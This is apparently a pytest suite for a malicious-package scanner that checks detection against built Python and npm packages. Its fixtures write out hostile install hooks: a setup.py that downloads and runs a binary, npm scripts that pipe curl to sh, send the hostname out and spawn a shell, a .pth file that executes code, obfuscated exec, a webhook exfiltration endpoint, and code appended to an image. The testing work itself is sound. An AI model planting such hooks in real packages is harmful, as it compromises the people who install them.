"""End-to-end scans of packages built here: what must be stopped is, what is honest stays clean."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from builders import gzip_bytes, tar_bytes, write, zip_bytes
from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import Finding, Report, Severity
from finalexam.report.base import RenderOptions
from finalexam.report.document import to_document
from schema import assert_valid_report

ATTACKER = "http://203.0.113.7:8080"  # TEST-NET-3: documentation range, never routed


def flagged(report: Report) -> list[Finding]:
    return [
        f
        for f in report.findings
        if f.kind.value in ("behavior", "malicious") and f.severity.rank >= Severity.HIGH.rank
    ]


def sdist(tmp_path: Path, name: str, setup_py: str, extra: dict[str, str] | None = None) -> Path:
    members = {
        f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{name}-1.0/setup.py": setup_py,
        **{f"{name}-1.0/{k}": v for k, v in (extra or {}).items()},
    }
    return write(tmp_path / f"{name}-1.0.tar.gz", gzip_bytes(tar_bytes(members)))


def npm_tgz(tmp_path: Path, name: str, scripts: dict[str, str], files: dict[str, str]) -> Path:
    manifest = {"name": name, "version": "1.0.0", "description": "d", "scripts": scripts}
    members = {"package/package.json": json.dumps(manifest, indent=2)}
    members.update({f"package/{k}": v for k, v in files.items()})
    return write(tmp_path / f"{name}-1.0.0.tgz", gzip_bytes(tar_bytes(members)))


SETUP_DOWNLOAD_EXEC = f"""
import os, tempfile, urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), "helper.bin")
        urllib.request.urlretrieve("{ATTACKER}/helper.bin", target)
        os.chmod(target, 0o755)
        os.system(target)

setup(name="helperlib", version="1.0", cmdclass={{"install": PostInstall}})
"""


def test_sdist_install_hook_that_downloads_and_runs_is_stopped(tmp_path: Path) -> None:
    report = run_exam(sdist(tmp_path, "helperlib", SETUP_DOWNLOAD_EXEC), Config())
    stop = flagged(report)
    assert stop, report.findings
    hook = next(f for f in stop if f.rule_id == "thr-install-network")
    assert hook.location is not None and hook.location.path.endswith("setup.py")
    assert hook.evidence.line == 10 and "urlretrieve" in (hook.evidence.snippet or "")
    assert hook.evidence.details["context"] == "install"
    assert hook.evidence.details["score"] >= 70
    rules = {f.rule_id for f in report.findings}
    assert "setup-command-override" in rules
    # a documentation-range address: listed, but not a public endpoint
    assert any(i.value == "203.0.113.7" and i.category == "private-ip" for i in report.indicators)
    assert not report.verdict.passed


def test_decoded_payload_through_aliases_is_stopped(tmp_path: Path) -> None:
    setup_py = (
        "from setuptools import setup\n"
        "import codecs as c\n"
        "runner = getattr(__builtins__, 'ex' + 'ec')\n"
        "runner(c.decode('cevag(1)', 'rot13'))\n"
        "setup(name='quiet', version='1.0')\n"
    )
    report = run_exam(sdist(tmp_path, "quiet", setup_py), Config())
    assert [f.rule_id for f in flagged(report)] == ["thr-decoded-exec"]


def test_npm_postinstall_pipe_to_shell_is_stopped(tmp_path: Path) -> None:
    tgz = npm_tgz(
        tmp_path,
        "left-padder",
        {"postinstall": f"curl -s {ATTACKER}/i.sh | sh"},
        {"index.js": "module.exports = (s, n) => s.padStart(n);\n"},
    )
    report = run_exam(tgz, Config())
    stop = flagged(report)
    assert {f.rule_id for f in stop} >= {"thr-pipe-to-shell"}
    finding = next(f for f in stop if f.rule_id == "thr-pipe-to-shell")
    assert finding.kind.value == "malicious"
    assert finding.location is not None and finding.location.path == "package/package.json"
    assert "postinstall" in (finding.evidence.snippet or "")


def test_npm_install_script_file_is_read_as_install_time_code(tmp_path: Path) -> None:
    installer = (
        "const https = require('https');\n"
        "const { execSync } = require('child_process');\n"
        "const os = require('os');\n"
        "function go() {\n"
        f"  https.get('{ATTACKER}/p?h=' + os.hostname(), r => execSync('sh'));\n"
        "}\n"
        "go();\n"
    )
    tgz = npm_tgz(
        tmp_path,
        "colour-util",
        {"preinstall": "node ./scripts/setup.js"},
        {"scripts/setup.js": installer},
    )
    report = run_exam(tgz, Config())
    stop = flagged(report)
    located = {(f.rule_id, f.location.path if f.location else "") for f in stop}
    assert ("thr-install-network", "package/scripts/setup.js") in located
    assert ("thr-system-recon", "package/scripts/setup.js") in located


SETUP_CALLS_OWN_FUNCTION = """
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        from greeter.notify import announce
        announce()
        install.run(self)

setup(name="greeter", version="1.0", packages=["greeter"], cmdclass={"install": PostInstall})
"""
GREETER_NOTIFY = """import os, tempfile

def announce():
    target = os.path.join(tempfile.gettempdir(), "card.png")
    os.system(f'curl -s -o "{target}" https://cards.example.org/thanks.png')
    os.system(f'cmd /c start "" "{target}"')

def unused():
    os.system("echo library code, never run by the install")
"""


def test_package_function_called_by_an_install_hook_is_install_time_code(
    tmp_path: Path,
) -> None:
    package = sdist(
        tmp_path,
        "greeter",
        SETUP_CALLS_OWN_FUNCTION,
        {"greeter/__init__.py": "", "greeter/notify.py": GREETER_NOTIFY},
    )
    report = run_exam(package, Config())
    hooked = [f for f in flagged(report) if f.rule_id == "thr-install-hook-runs-command"]
    assert hooked, report.findings
    assert {f.location.path for f in hooked if f.location} == {"greeter-1.0/greeter/notify.py"}
    assert {f.evidence.line for f in hooked} == {5}  # not line 9: unused() is not called
    assert "called by an install command of setup.py" in hooked[0].message
    # the same module imported by a build step is not install-time code
    build_only = SETUP_CALLS_OWN_FUNCTION.replace(
        "install import install", "build_py import build_py"
    )
    build_only = build_only.replace("(install)", "(build_py)").replace(
        "install.run", "build_py.run"
    )
    other = tmp_path / "other"
    other.mkdir()
    package = sdist(
        other,
        "greeter",
        build_only,
        {"greeter/__init__.py": "", "greeter/notify.py": GREETER_NOTIFY},
    )
    assert not flagged(run_exam(package, Config()))


def test_install_hook_writing_into_the_user_profile_is_stopped(tmp_path: Path) -> None:
    setup_py = (
        "import os\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        os.makedirs(os.path.expandvars('%APPDATA%\\\\Updater'), exist_ok=True)\n"
        "        os.makedirs(f'C:\\\\Users\\\\{os.getlogin()}\\\\Desktop\\\\x')\n"
        "        install.run(self)\n"
        "setup(name='tidy', version='1.0', cmdclass={'install': Post})\n"
    )
    report = run_exam(sdist(tmp_path, "tidy", setup_py), Config())
    lines = {f.evidence.line for f in flagged(report) if f.rule_id == "thr-install-writes-outside"}
    assert 7 in lines, report.findings


def test_pth_file_that_executes_code_is_reported(tmp_path: Path) -> None:
    wheel = write(
        tmp_path / "boot-1.0-py3-none-any.whl",
        zip_bytes(
            {
                "boot.pth": "import os; os.system('curl -s http://203.0.113.9/x | sh')\n",
                "boot-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: boot\nVersion: 1.0\n",
            }
        ),
    )
    report = run_exam(wheel, Config())
    rules = {f.rule_id for f in flagged(report)}
    assert "thr-pipe-to-shell" in rules
    assert "pth-executes-code" in {f.rule_id for f in report.findings}


def test_honest_packages_stay_clean(tmp_path: Path) -> None:
    setup_py = (
        "import os, subprocess\n"
        "from setuptools import setup\n"
        "here = os.path.dirname(__file__)\n"
        "long = open(os.path.join(here, 'README.md')).read()\n"
        "exec(open(os.path.join(here, 'tidy', 'version.py')).read())\n"
        "rev = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n"
        "setup(name='tidy', version='1.0', url='https://github.com/example/tidy',\n"
        "      install_requires=['requests>=2'])\n"
    )
    module = (
        '"""Reads ~/.ssh/config to list hosts; see https://docs.python.org/3/."""\n'
        "import os, socket, subprocess\n"
        "import requests\n"
        "def hosts():\n"
        "    return open(os.path.expanduser('~/.ssh/config')).read()\n"
        "def fetch(url):\n"
        "    return requests.get(url, timeout=5).json()\n"
        "def who():\n"
        "    return socket.gethostname()\n"
        "def run(cmd):\n"
        "    return subprocess.run(cmd, check=True)\n"
    )
    package = sdist(
        tmp_path,
        "tidy",
        setup_py,
        {
            "README.md": "# tidy\nSee https://pypi.org/project/tidy/\n",
            "tidy/__init__.py": module,
            "tidy/version.py": "__version__ = '1.0'\n",
        },
    )
    report = run_exam(package, Config())
    assert flagged(report) == [], report.findings
    assert report.verdict.passed
    tgz = npm_tgz(
        tmp_path,
        "tidy-js",
        {"test": "node test.js", "prepare": "tsc -p ."},
        {"index.js": "const fs = require('fs');\nmodule.exports = p => fs.readFileSync(p);\n"},
    )
    assert flagged(run_exam(tgz, Config())) == []


def test_report_carries_indicators_and_stays_schema_valid(tmp_path: Path) -> None:
    binary = b"\x7fELF\x02\x01\x01" + b"\x00" * 64 + b"https://abcd-12.ngrok-free.app/c2\x00"
    wheel = write(
        tmp_path / "probe-1.0-py3-none-any.whl",
        zip_bytes(
            {
                "probe/__init__.py": "HOME = 'https://pypi.org/project/probe/'\n",
                "probe/native.so": binary,
                "probe-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: probe\n"
                "Version: 1.0\nAuthor-email: dev@example.org\n",
            }
        ),
    )
    report = run_exam(wheel, Config())
    by_value = {(i.kind, i.value): i for i in report.indicators}
    assert by_value[("url", "https://pypi.org/project/probe/")].category == "registry"
    tunnel = by_value[("domain", "abcd-12.ngrok-free.app")]
    assert tunnel.category == "tunnel"
    assert str(tunnel.locations[0]).endswith("probe/native.so")
    assert by_value[("email", "dev@example.org")].category == "example"
    document = to_document(report, RenderOptions())
    assert_valid_report(document)
    assert document["indicators"]


@pytest.mark.parametrize("disable", ["behavior", "indicators", "typosquat"])
def test_each_analyzer_can_be_disabled(tmp_path: Path, disable: str) -> None:
    report = run_exam(sdist(tmp_path, "helperlib", SETUP_DOWNLOAD_EXEC), Config(disable=(disable,)))
    assert all(f.found_by != disable for f in report.findings)


def test_install_download_from_the_registry_is_explained_not_stopped(tmp_path: Path) -> None:
    installer = (
        "const https = require('https');\n"
        "const { execFileSync } = require('child_process');\n"
        "https.get('https://registry.npmjs.org/@example/bin-linux-x64/-/bin-1.0.0.tgz', r => {\n"
        "  execFileSync(process.execPath, ['unpack.js']);\n"
        "});\n"
    )
    tgz = npm_tgz(
        tmp_path, "fastbuild", {"postinstall": "node install.js"}, {"install.js": installer}
    )
    report = run_exam(tgz, Config())
    assert flagged(report) == []
    hook = [f for f in report.findings if f.rule_id == "thr-install-network"]
    assert hook and all(f.severity is Severity.MEDIUM for f in hook)


def test_code_appended_to_an_image_is_reported(tmp_path: Path) -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40 + b"IEND\xaeB`\x82"
    payload = b"import os\nos.system('id')\n" * 3
    wheel = write(
        tmp_path / "pics-1.0-py3-none-any.whl",
        zip_bytes({"pics/logo.png": png + payload, "pics/clean.png": png}),
    )
    report = run_exam(wheel, Config())
    hidden = [f for f in report.findings if f.rule_id == "obf-image-payload"]
    assert [str(f.location).rsplit("/", 1)[-1] for f in hidden] == ["logo.png"]


def _cross_file_rules(report: Report) -> set[tuple[str, str, str]]:
    return {
        (f.rule_id, f.location.path if f.location else "", str(f.evidence.details.get("scope")))
        for f in flagged(report)
    }


def test_cross_file_findings_do_not_depend_on_worker_processes(tmp_path: Path) -> None:
    """npm hook targets and package-scope risks need facts from several files; with --jobs
    those files are analysed in other processes, and the report must not change."""
    installer = (
        "const https = require('https');\n"
        "const os = require('os');\n"
        f"https.get('{ATTACKER}/p?h=' + os.hostname());\n"
    )
    tgz = npm_tgz(
        tmp_path,
        "colour-util",
        {"postinstall": "node lib/setup.js"},
        {
            "lib/setup.js": installer,
            **{f"lib/pad{i}.js": "module.exports = 1;\n" for i in range(40)},
        },
    )
    hook = "https://discord.com/api/webhooks/123456789012345678/" + "a1B2c3D4e5" * 4
    wheel = write(
        tmp_path / "helperlib-1.0-py3-none-any.whl",
        zip_bytes(
            {
                "helperlib/__init__.py": f"HOOK = '{hook}'\n",
                **{f"helperlib/m{i}.py": "X = 1\n" for i in range(40)},
                "helperlib/net.py": "import requests\n\ndef send(d):\n    requests.post(URL, d)\n",
            }
        ),
    )
    for target, expected in (
        (tgz, ("thr-system-recon", "package/lib/setup.js")),
        (wheel, ("thr-exfil-endpoint", "helperlib/__init__.py")),
    ):
        serial = run_exam(target, Config(jobs=1))
        parallel = run_exam(target, Config(jobs=2))
        found = _cross_file_rules(serial)
        assert expected in {(rule, path) for rule, path, _ in found}
        assert found == _cross_file_rules(parallel)
        options = RenderOptions()
        assert (
            to_document(serial, options)["findings"] == to_document(parallel, options)["findings"]
        )
